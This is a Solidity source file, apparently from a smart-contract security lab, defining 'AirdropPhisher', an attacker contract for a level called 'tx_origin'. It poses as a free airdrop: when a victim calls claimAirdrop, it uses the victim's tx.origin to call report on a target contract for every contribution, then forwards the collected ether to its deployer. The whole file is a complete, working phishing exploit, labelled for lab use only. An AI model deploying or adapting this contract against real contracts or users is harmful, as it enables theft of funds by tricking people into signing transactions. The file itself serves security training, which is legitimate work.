// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

// ATTACK LAB ONLY: an attacker contract for the level "tx_origin". Never deploy it outside the lab.

/// @title IOwnerTakes
/// @notice What `AirdropPhisher` needs from a lab trainer.
interface IOwnerTakes {
    /// @notice The owner takes what is left of contribution `id`.
    function report(uint256 id) external returns (uint256 amount);
    /// @notice How many contributions were added.
    function contributionCount() external view returns (uint256);
}

/// @title AirdropPhisher
/// @notice ATTACK LAB ONLY. Looks like a free airdrop; when someone calls `claimAirdrop`, it calls
/// `report` on the trainer for every contribution, in the caller's name as far as `tx.origin` can
/// tell, and forwards whatever it is paid to its deployer.
contract AirdropPhisher {
    /// @notice The trainer under attack.
    IOwnerTakes public immutable target;
    /// @notice Who deployed this contract and gets the loot.
    address public immutable attacker;

    /// @notice Forwarding the loot failed.
    error ForwardFailed(uint256 amount);

    /// @notice `amount` wei were forwarded to the attacker.
    event Forwarded(uint256 amount);

    /// @param target_ The trainer to attack.
    constructor(IOwnerTakes target_) {
        target = target_;
        attacker = msg.sender;
    }

    /// @notice "Claim your free airdrop!" The bait: whoever calls it signs a transaction whose
    /// `tx.origin` is themselves.
    function claimAirdrop() external {
        uint256 n = target.contributionCount();
        for (uint256 id = 0; id < n; ++id) {
            target.report(id);
        }
        uint256 amount = address(this).balance;
        emit Forwarded(amount);
        (bool ok,) = attacker.call{value: amount}("");
        if (!ok) revert ForwardFailed(amount);
    }

    /// @notice Accepts the trainer's payments.
    receive() external payable {}
}
